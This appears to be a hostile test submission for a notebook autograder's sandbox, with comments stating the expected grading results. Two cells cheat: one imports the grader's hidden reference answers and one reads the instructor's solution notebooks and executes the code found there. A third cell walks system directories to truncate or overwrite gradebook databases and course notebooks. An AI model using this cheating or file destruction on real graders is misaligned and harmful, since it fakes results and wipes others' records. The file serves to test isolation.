# Hostile: answers copied from the grader's own references (the hidden checks' module, which the kernel cannot
# import: they run in the trusted checker) and from the source notebook,
# and an attempt to overwrite the gradebook and every notebook it can find. Its own code for
# reduce_to_shape is right, so that part keeps its points.
# assignment: 01_matmul_from_shapes
# needs: full-isolation (reading and overwriting the instructor's files is stopped only by the new root)
# expect: test_linear_backward zero error
# expect: test_linear_bias_backward zero wrong-values
# expect: test_reduce_to_shape full
# %% linear_backward
def linear_backward(x, w, dy):
    import autograder.check.matmul as answers  # not there: the kernel runs the visible checks only

    return answers.linear_reference(x, w, dy)
# %% linear_bias_backward
import json
import os


def _solution_from(path, grade_id):
    try:
        with open(path) as f:
            nb = json.load(f)
    except OSError:
        return None
    for cell in nb["cells"]:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id:
            return "".join(cell["source"])
    return None


_FOUND = {}
for _where in ["@@COURSE@@/source/@@ASSIGNMENT@@/@@ASSIGNMENT@@.ipynb",
               "@@COURSE@@/notebooks/@@ASSIGNMENT@@.py",
               "@@COURSE@@/release/@@ASSIGNMENT@@/@@ASSIGNMENT@@.ipynb"]:
    _code = _solution_from(_where, "linear_bias_backward")
    if _code and "BEGIN SOLUTION" in _code:
        exec(_code, _FOUND)


def linear_bias_backward(x, w, b, dy):
    if "linear_bias_backward" in _FOUND:
        return _FOUND["linear_bias_backward"](x, w, b, dy)
    return torch.zeros_like(x), torch.zeros_like(w), torch.zeros_like(b)
# %% reduce_to_shape
import glob
import os


def _vandalise(path):
    for how in ("truncate", "write"):
        try:
            if how == "truncate":
                os.truncate(path, 0)
            else:
                with open(path, "w") as f:
                    f.write("{}")
            print("VANDALISED", path)
        except OSError:
            pass


# Armed only where the proof test filled in the placeholders: exec'd as it stands (a script that
# loops over tests/submissions/*), it would wreck the checkout it runs in.
_ARMED = not "@@COURSE@@".startswith("@@")
_targets = set(glob.glob("@@COURSE@@/gradebook.db") + glob.glob("@@COURSE@@/source/*/*.ipynb")
               + glob.glob("@@COURSE@@/submitted/*/*/*.ipynb") + glob.glob("@@COURSE@@/autograded/*/*/*.ipynb"))
_here = os.getcwd()
while _here != "/":  # the course folder this notebook is graded in, whichever it is
    _targets.update(glob.glob(os.path.join(_here, "gradebook.db")) + glob.glob(os.path.join(_here, "source/*/*.ipynb")))
    _here = os.path.dirname(_here)
for _root in ("/work", "/root", "/home", "/tmp", "/srv", "/opt"):
    for _dir, _subdirs, _files in os.walk(_root):
        _subdirs[:] = [d for d in _subdirs if d not in (".venv", "site-packages", "node_modules", ".git")]
        _targets.update(os.path.join(_dir, f) for f in _files if f == "gradebook.db")
for _path in sorted(_targets) if _ARMED else ():
    _vandalise(_path)


def reduce_to_shape(grad, shape):
    shape = tuple(shape)
    lead = grad.ndim - len(shape)
    if lead > 0:
        grad = grad.sum(dim=tuple(range(lead)))
    stretched = tuple(i for i, size in enumerate(shape) if size == 1 and grad.shape[i] != 1)
    if stretched:
        grad = grad.sum(dim=stretched, keepdim=True)
    return grad
